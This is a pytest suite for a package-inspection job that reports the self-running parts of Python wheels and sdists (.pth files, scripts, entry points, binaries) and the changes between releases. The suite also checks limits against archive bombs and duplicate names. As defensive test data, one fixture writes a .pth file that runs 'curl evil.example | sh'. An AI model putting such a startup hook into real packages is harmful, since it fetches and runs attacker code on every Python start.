"""A look inside: whoever approves a file is shown all that runs by itself, and all that is new in it."""

from __future__ import annotations

import gzip
import io
import json
import subprocess
import sys
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from distributions import sdist, wheel
from localshop.jobs import inspection_archive
from localshop.jobs.inspection_child import look_into, report

ELF = b"\x7fELF" + bytes(60)


def seen(tmp_path, distribution):
    path = tmp_path / distribution.filename
    path.write_bytes(distribution.body)
    return look_into(distribution.filename, path)


def test_what_runs_by_itself_is_shown_with_its_text(tmp_path):
    """A .pth file runs in every Python that starts, also in those that never import the package."""
    evil = "import os; os.system('curl evil.example | sh')\n"
    files = {
        "acme.pth": evil.encode(),
        "acme.start": b"acme:main\n",
        "acme-1.0.data/scripts/acme-run": b"#!python\n",
        "acme-1.0.dist-info/entry_points.txt": b"[console_scripts]\nacme = acme:main\n[other]\nX = y\n",
        "acme/_fast.so": ELF,
    }
    told = report(seen(tmp_path, wheel("acme", "1.0", files=files)), None)
    assert told["startup"] == [["acme.pth", evil], ["acme.start", "acme:main\n"]]
    assert told["scripts"] == ["data/scripts/acme-run"]
    assert told["entry_points"] == {"console_scripts": ["acme = acme:main"], "other": ["X = y"]}
    assert told["binaries"] == ["acme/_fast.so"]
    assert told["difference"] is None
    assert told["count"] == len(told["members"])


def test_what_is_run_when_an_sdist_is_built_is_shown(tmp_path):
    told = report(seen(tmp_path, sdist("acme", "1.0")), None)
    assert "pyproject.toml" in [name for name, _ in told["builds"]]


def test_a_release_is_compared_with_the_one_before_it(tmp_path):
    """The directories that have the version in their name are no news."""
    told = report(seen(tmp_path, wheel("acme", "2.0")), seen(tmp_path, wheel("acme", "1.0")))["difference"]
    assert (told["added"], told["removed"]) == ([], [])
    assert '-__version__ = "1.0"\n+__version__ = "2.0"' in dict(told["lines"])["acme/__init__.py"]
    old, new = seen(tmp_path, sdist("acme", "1.0")), seen(tmp_path, sdist("acme", "2.0"))
    assert "-Version: 1.0\n+Version: 2.0" in dict(report(new, old)["difference"]["lines"])["PKG-INFO"]


@pytest.mark.parametrize(("limit", "most"), [("_LARGEST", 1000), ("_MOST_MEMBERS", 2)])
@pytest.mark.parametrize("make", [wheel, sdist])
def test_what_unpacks_to_too_much_is_not_read_to_its_end(tmp_path, monkeypatch, make, limit, most):
    """An archive of some kilobytes can have terabytes in it."""
    monkeypatch.setattr(inspection_archive, limit, most)
    with pytest.raises(inspection_archive.TooMuch):
        seen(tmp_path, make("acme", "1.0", size=5000))


def test_what_is_added_is_shown_line_by_line(tmp_path):
    old = wheel("acme", "1.0", files={"acme/gone.py": b"x = 1\n"})
    new = wheel("acme", "1.1", files={"acme.pth": b"import acme.evil\n", "acme/evil.py": b"steal()\n"})
    told = report(seen(tmp_path, new), seen(tmp_path, old))["difference"]
    assert told["added"] == ["acme.pth", "acme/evil.py"]
    assert told["removed"] == ["acme/gone.py"]
    assert "+steal()" in dict(told["lines"])["acme/evil.py"]
    assert told["counts"][:2] == [2, 1]


def test_a_name_that_is_there_twice_is_shown_twice(tmp_path):
    """One tool unpacks the first of them, another the last."""
    path = tmp_path / "acme-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("acme.py", "good")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("acme.py", "evil")
    assert sorted(look_into(path.name, path)) == ["acme.py", "acme.py (once more)"]


def ask(*arguments):
    return subprocess.run(
        [sys.executable, "-I", "-m", "localshop.jobs.inspection_child", *map(str, arguments)],
        capture_output=True,
        timeout=120,
        check=False,
    )


def test_the_process_writes_the_report(tmp_path):
    new, old = wheel("acme", "2.0"), wheel("acme", "1.0")
    for one in (new, old):
        (tmp_path / one.filename).write_bytes(one.body)
    done = ask(new.filename, tmp_path / new.filename, old.filename, tmp_path / old.filename)
    assert json.loads(done.stdout)["difference"]["counts"] == [0, 0, 3], done.stderr


@pytest.mark.parametrize(
    ("filename", "body"),
    [
        ("acme-1.0-py3-none-any.whl", b"no archive"),
        ("acme-1.0.tar.gz", gzip.compress(b"no archive")),
        ("acme-1.0-py3-none-any.whl", b""),
    ],
)
def test_what_cannot_be_looked_into_ends_the_process_and_nothing_else(tmp_path, filename, body):
    path = tmp_path / filename
    path.write_bytes(body)
    done = ask(filename, path, "", "")
    assert done.returncode != 0
    assert not done.stdout


@given(names=st.lists(st.text(min_size=1, max_size=30), max_size=5), body=st.binary(max_size=50))
def test_whatever_is_in_an_archive_the_report_is_json(tmp_path_factory, names, body):
    path = tmp_path_factory.mktemp("any") / "acme-1.0-py3-none-any.whl"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in {name.replace("\0", "") or "x" for name in names}:
            archive.writestr(zipfile.ZipInfo(name.rstrip("/") or "x"), body)
    path.write_bytes(buffer.getvalue())
    found = look_into(path.name, path)
    assert json.loads(json.dumps(report(found, found)))["difference"]["counts"] == [0, 0, 0]
